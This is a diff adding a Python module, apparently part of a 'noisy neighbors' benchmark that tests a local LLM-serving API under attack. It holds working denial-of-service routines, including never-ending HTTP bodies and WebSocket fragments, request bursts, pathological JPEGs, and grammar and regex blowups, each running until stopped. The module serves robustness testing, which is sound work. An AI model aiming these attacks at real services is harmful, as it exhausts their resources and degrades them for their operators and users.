@@ -1,0 +1,156 @@
+"""Attacks by name: each one runs until its process is ended and sends as the owner of one API key, or without a key."""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+import json
+import os
+from collections.abc import Awaitable, Callable, Iterable
+from contextlib import suppress
+from dataclasses import dataclass
+
+from bench.noisy_neighbors import payloads
+
+LEAVE_AFTER_S = 3.0
+MEGABYTE = 2**20
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """The server under attack, the model it serves, and the attacker's API key."""
+
+    port: int
+    model: str
+    key: str
+
+
+Attack = Callable[[Target], Awaitable[None]]
+
+
+async def post(target: Target, body: bytes, path: str = "/v1/responses", limit_s: float = 60.0, key: str | None = None) -> None:
+    """Send one request and read the answer, for `limit_s` seconds at most; then hang up."""
+    secret = target.key if key is None else key
+    authorization = f"Authorization: Bearer {secret}\r\n" if secret else ""
+    head = (
+        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\n{authorization}Content-Type: application/json\r\n"
+        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
+    )
+    writer = None
+    with suppress(OSError, TimeoutError):
+        async with asyncio.timeout(limit_s):
+            reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
+            writer.write(head.encode() + body)
+            await writer.drain()
+            while await reader.read(65536):
+                pass
+    if writer is not None:
+        writer.close()
+
+
+async def repeat(target: Target, bodies: Iterable[bytes], parallel: int = 1, **options: object) -> None:
+    """Send `bodies`, `parallel` at a time, one behind the other."""
+    source = iter(bodies)
+
+    async def worker() -> None:
+        for body in source:
+            await post(target, body, **options)  # type: ignore[arg-type]
+
+    await asyncio.gather(*(worker() for _ in range(parallel)))
+
+
+def same(make: Callable[[str], bytes], parallel: int = 1, **options: object) -> Attack:
+    """Return an attack that sends the same body again and again."""
+
+    async def attack(target: Target) -> None:
+        await repeat(target, itertools.repeat(make(target.model)), parallel, **options)
+
+    return attack
+
+
+def numbered(make: Callable[[str, int], bytes], parallel: int = 1) -> Attack:
+    """Return an attack whose every body is a new one."""
+
+    async def attack(target: Target) -> None:
+        await repeat(target, (make(target.model, number) for number in itertools.count()), parallel)
+
+    return attack
+
+
+async def unfinished_bodies(target: Target, connections: int = 12, size: int = 50 * MEGABYTE) -> None:
+    """Send bodies without a key that never end."""
+
+    async def one() -> None:
+        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
+        head = f"POST /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\nContent-Length: {size + 1}\r\n\r\n"
+        writer.write(head.encode())
+        with suppress(OSError):
+            for _ in range(size // MEGABYTE):
+                writer.write(bytes(MEGABYTE))
+                await writer.drain()
+            await reader.read()
+        writer.close()
+
+    while True:
+        await asyncio.gather(*(one() for _ in range(connections)))
+        await asyncio.sleep(1.0)
+
+
+async def unfinished_messages(target: Target, connections: int = 16, size: int = 40 * MEGABYTE) -> None:
+    """Send WebSocket messages whose last fragment never comes (RFC 6455 section 5.4)."""
+
+    async def one() -> None:
+        reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
+        head = (
+            f"GET /v1/responses HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\nAuthorization: Bearer {target.key}\r\n"
+            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+        )
+        writer.write(head.encode())
+        with suppress(OSError):
+            await reader.readuntil(b"\r\n\r\n")
+            for number in range(size // MEGABYTE):
+                opcode = 1 if number == 0 else 0
+                writer.write(bytes((opcode, 0x80 | 127)) + MEGABYTE.to_bytes(8, "big") + bytes(4) + b" " * MEGABYTE)
+                await writer.drain()
+            await reader.read()
+        writer.close()
+
+    while True:
+        await asyncio.gather(*(one() for _ in range(connections)), return_exceptions=True)
+        await asyncio.sleep(1.0)
+
+
+async def burst(target: Target, requests: int = 1000) -> None:
+    """Ask for more responses at the same moment than the server makes at a time."""
+    body = payloads.create(target.model)
+    while True:
+        await asyncio.gather(*(post(target, body) for _ in range(requests)))
+
+
+async def progressive_jpegs(target: Target) -> None:
+    """Upload pictures with thousands of scans and hang up after some seconds."""
+    body = json.dumps({"items": [payloads.image_message(payloads.progressive_jpeg())]}).encode()
+    await repeat(target, itertools.repeat(body), 10, path="/v1/conversations", limit_s=LEAVE_AFTER_S)
+
+
+ATTACKS: dict[str, Attack] = {
+    "lark-doubling-terminals": same(lambda model: payloads.lark(model, payloads.doubling_terminals())),
+    "lark-optionals": same(lambda model: payloads.lark(model, "start: " + '"a"? ' * 18)),
+    "lark-alternatives": same(lambda model: payloads.lark(model, "start: " + '("a"|"b") ' * 17)),
+    "regex-nested-repeats": same(lambda model: payloads.regex(model, "(((a{99}){99}){99}){99}")),
+    "schema-long-enum": numbered(payloads.long_enum),
+    "schema-medium-enum": numbered(lambda model, number: payloads.long_enum(model, number, 900, 40), 4),
+    "schema-optional-properties": numbered(payloads.optional_properties),
+    "progressive-jpegs": progressive_jpegs,
+    "text-9-mb": same(lambda model: payloads.create(model, input="word " * 1_800_000), 6, limit_s=LEAVE_AFTER_S),
+    "text-accents-10-mib": same(lambda model: payloads.create(model, input="é" * 5_242_880), 2),
+    "text-random-9-mb": same(lambda model: payloads.create(model, input=os.urandom(4_500_000).hex()), 2),
+    "messages-65000": same(lambda model: payloads.create(model, input=payloads.messages(65_000)), 2),
+    "truncation-20000": same(lambda model: payloads.create(model, input=payloads.messages(20_000), truncation="auto"), 2),
+    "tools-65000": same(lambda model: payloads.create(model, tools=payloads.functions(65_000)), 2),
+    "unfinished-bodies": unfinished_bodies,
+    "unfinished-messages": unfinished_messages,
+    "burst-1000": burst,
+    "logprobs": same(lambda model: payloads.create(model, include=["message.output_text.logprobs"], top_logprobs=5), 2),
+}
